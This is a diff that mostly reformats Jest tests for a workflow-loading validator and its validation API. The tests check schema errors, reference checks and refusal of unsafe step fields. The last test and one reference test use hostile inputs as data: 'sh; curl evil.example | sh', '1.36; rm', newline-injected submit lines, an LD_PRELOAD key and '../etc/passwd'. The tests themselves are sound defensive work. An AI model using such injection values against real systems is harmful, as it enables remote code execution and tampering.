@@ -36,20 +36,27 @@ describe('workflow loading', () => {
 
   it('names the path and the file of each schema error', () => {
     const files = example();
-    files['steps.yml'] = files['steps.yml'].replace("    cmd: sh -c 'wc -w < {inputfile} > {outputfile}'\n", '').replace('publisher_type: frompar-pub', 'publisher_type: fromwhere-pub');
-    files['workflow.yml'] = files['workflow.yml'].replace('scheduler_type: singlestep-stage\n      parameters:\n        counts', 'scheduler_type: onestep\n      parameters:\n        counts');
+    files['steps.yml'] = files['steps.yml']
+      .replace("    cmd: sh -c 'wc -w < {inputfile} > {outputfile}'\n", '')
+      .replace('publisher_type: frompar-pub', 'publisher_type: fromwhere-pub');
+    files['workflow.yml'] = files['workflow.yml'].replace(
+      'scheduler_type: singlestep-stage\n      parameters:\n        counts',
+      'scheduler_type: onestep\n      parameters:\n        counts',
+    );
     const r = loadWorkflow('workflow.yml', files);
     expect(r.spec).toBeNull();
-    expect(messages(r)).toEqual(expect.arrayContaining([
-      'steps.yml $.stages[1].scheduler.step.process: cmd is missing',
-      'steps.yml $.stages[1].scheduler.step.publisher.publisher_type: must be one of frompar-pub, fromglob-pub, interpolated-pub, constant-pub',
-      'workflow.yml $.stages[2].scheduler.scheduler_type: must be one of singlestep-stage, multistep-stage',
-    ]));
+    expect(messages(r)).toEqual(
+      expect.arrayContaining([
+        'steps.yml $.stages[1].scheduler.step.process: cmd is missing',
+        'steps.yml $.stages[1].scheduler.step.publisher.publisher_type: must be one of frompar-pub, fromglob-pub, interpolated-pub, constant-pub',
+        'workflow.yml $.stages[2].scheduler.scheduler_type: must be one of singlestep-stage, multistep-stage',
+      ]),
+    );
   });
 
   it('requires a scatter for a multistep stage', () => {
     const files = example();
-    files['workflow.yml'] = files['workflow.yml'].replace(/      scatter:\n        method: zip\n        parameters: \[inputfile\]\n/, '');
+    files['workflow.yml'] = files['workflow.yml'].replace(/ {6}scatter:\n {8}method: zip\n {8}parameters: \[inputfile\]\n/, '');
     expect(messages(loadWorkflow('workflow.yml', files))).toContain('workflow.yml $.stages[1].scheduler: scatter is missing');
   });
 
@@ -59,27 +66,32 @@ describe('workflow loading', () => {
       .replace('dependencies: [acquire]', 'dependencies: [acquire, reduce]')
       .replace('dependencies: [map]', 'dependencies: [map, fetch]')
       .replace('scatter:\n        method: zip\n        parameters: [inputfile]', 'scatter:\n        method: zip\n        parameters: [inputfile, nosuch]')
-      .replace('counts: {stages: map, output: count, flatten: true}', 'counts: {stages: map, output: count, flatten: true}\n        extra: {stages: elsewhere, output: x}');
+      .replace(
+        'counts: {stages: map, output: count, flatten: true}',
+        'counts: {stages: map, output: count, flatten: true}\n        extra: {stages: elsewhere, output: x}',
+      );
     files['workflow.yml'] += '  - name: acquire\n    scheduler: {scheduler_type: singlestep-stage, step: {$ref: "steps.yml#/sum"}}\n';
     const m = messages(loadWorkflow('workflow.yml', files));
-    expect(m).toEqual(expect.arrayContaining([
-      'workflow.yml $.stages[3].name: stage acquire is defined twice (also $.stages[0])',
-      'workflow.yml $.stages[2].dependencies: depends on stage fetch, which the workflow does not define',
-      expect.stringMatching(/dependency cycle: (map -> reduce -> map|reduce -> map -> reduce)/),
-      'workflow.yml $.stages[1].scheduler.scatter.parameters: scatters nosuch, which is not one of the stage\'s parameters',
-      'workflow.yml $.stages[2].scheduler.parameters.extra: refers to outputs of elsewhere, which is not among this stage\'s dependencies',
-    ]));
+    expect(m).toEqual(
+      expect.arrayContaining([
+        'workflow.yml $.stages[3].name: stage acquire is defined twice (also $.stages[0])',
+        'workflow.yml $.stages[2].dependencies: depends on stage fetch, which the workflow does not define',
+        expect.stringMatching(/dependency cycle: (map -> reduce -> map|reduce -> map -> reduce)/),
+        "workflow.yml $.stages[1].scheduler.scatter.parameters: scatters nosuch, which is not one of the stage's parameters",
+        "workflow.yml $.stages[2].scheduler.parameters.extra: refers to outputs of elsewhere, which is not among this stage's dependencies",
+      ]),
+    );
   });
 
   it('reports broken references and unreadable files', () => {
     const files = example();
     expect(messages(loadWorkflow('workflow.yml', { 'workflow.yml': files['workflow.yml'] }))).toContain(
-      'workflow.yml $.stages[0].scheduler.step: steps.yml is not among the workflow\'s files (workflow.yml)',
+      "workflow.yml $.stages[0].scheduler.step: steps.yml is not among the workflow's files (workflow.yml)",
     );
-    files['workflow.yml'] = files['workflow.yml'].replace("steps.yml#/count", 'steps.yml#/nothing').replace("steps.yml#/sum", '../etc/passwd#/x');
+    files['workflow.yml'] = files['workflow.yml'].replace('steps.yml#/count', 'steps.yml#/nothing').replace('steps.yml#/sum', '../etc/passwd#/x');
     const m = messages(loadWorkflow('workflow.yml', files));
     expect(m).toContain('workflow.yml $.stages[1].scheduler.step: $ref steps.yml#/nothing: steps.yml has nothing at #/nothing');
-    expect(m).toContain('workflow.yml $.stages[2].scheduler.step: $ref ../etc/passwd#/x points outside the workflow\'s directory');
+    expect(m).toContain("workflow.yml $.stages[2].scheduler.step: $ref ../etc/passwd#/x points outside the workflow's directory");
     expect(messages(loadWorkflow('workflow.yml', { 'workflow.yml': 'stages: [\n' }))[0]).toMatch(/^workflow.yml \$: workflow.yml is not valid YAML or JSON/);
   });
 });
@@ -100,7 +112,12 @@ describe('POST /api/af/workflows/validate', () => {
     const files = example();
     files['steps.yml'] = files['steps.yml'].replace('environment_type: docker-encapsulated', 'environment_type: vm');
     const bad = await alice().post('/api/af/workflows/validate', { entry: 'workflow.yml', files });
-    expect(bad.json).toEqual({ valid: false, errors: [{ path: '$.stages[1].scheduler.step.environment.environment_type', file: 'steps.yml', message: 'must be one of docker-encapsulated, localproc-env' }] });
+    expect(bad.json).toEqual({
+      valid: false,
+      errors: [
+        { path: '$.stages[1].scheduler.step.environment.environment_type', file: 'steps.yml', message: 'must be one of docker-encapsulated, localproc-env' },
+      ],
+    });
     const malformed = await alice().post('/api/af/workflows/validate', '{"entry": 1');
     expect(malformed.status).toBe(400);
     const unauthenticated = await client(gw).post('/api/af/workflows/validate', { entry: 'w', files: { w: '' } });
@@ -113,16 +130,21 @@ describe('step fields that reach a shell, a submit description or a pod spec', (
     const files = example();
     files['steps.yml'] = files['steps.yml']
       .replace('    interpreter: sh\n', "    interpreter: 'sh; curl evil.example | sh'\n")
-      .replace("    image: busybox\n    imagetag: '1.36'\n", "    image: \"busybox\\n+Owner = root\"\n    imagetag: '1.36; rm'\n    env:\n      'LD_PRELOAD=/tmp/x.so': x\n      GREETING: \"hi\\nqueue 1000\"\n      FINE: \"a\\tb\"\n");
+      .replace(
+        "    image: busybox\n    imagetag: '1.36'\n",
+        '    image: "busybox\\n+Owner = root"\n    imagetag: \'1.36; rm\'\n    env:\n      \'LD_PRELOAD=/tmp/x.so\': x\n      GREETING: "hi\\nqueue 1000"\n      FINE: "a\\tb"\n',
+      );
     const r = loadWorkflow('workflow.yml', files);
     expect(r.spec).toBeNull();
-    expect(messages(r)).toEqual(expect.arrayContaining([
-      'steps.yml $.stages[0].scheduler.step.process.interpreter: is not a program to run (letters, digits, _ . / + - and single spaces only)',
-      'steps.yml $.stages[1].scheduler.step.environment.image: is not an image name (no spaces or control characters)',
-      'steps.yml $.stages[1].scheduler.step.environment.imagetag: is not an image tag (letters, digits, _ . -)',
-      'steps.yml $.stages[1].scheduler.step.environment.env["LD_PRELOAD=/tmp/x.so"]: is not an environment variable name (letters, digits and _, not starting with a digit)',
-      'steps.yml $.stages[1].scheduler.step.environment.env.GREETING: contains a control character (newlines and the like are refused; tab is fine)',
-    ]));
+    expect(messages(r)).toEqual(
+      expect.arrayContaining([
+        'steps.yml $.stages[0].scheduler.step.process.interpreter: is not a program to run (letters, digits, _ . / + - and single spaces only)',
+        'steps.yml $.stages[1].scheduler.step.environment.image: is not an image name (no spaces or control characters)',
+        'steps.yml $.stages[1].scheduler.step.environment.imagetag: is not an image tag (letters, digits, _ . -)',
+        'steps.yml $.stages[1].scheduler.step.environment.env["LD_PRELOAD=/tmp/x.so"]: is not an environment variable name (letters, digits and _, not starting with a digit)',
+        'steps.yml $.stages[1].scheduler.step.environment.env.GREETING: contains a control character (newlines and the like are refused; tab is fine)',
+      ]),
+    );
     expect(messages(r).some((m) => m.includes('FINE'))).toBe(false);
   });
 
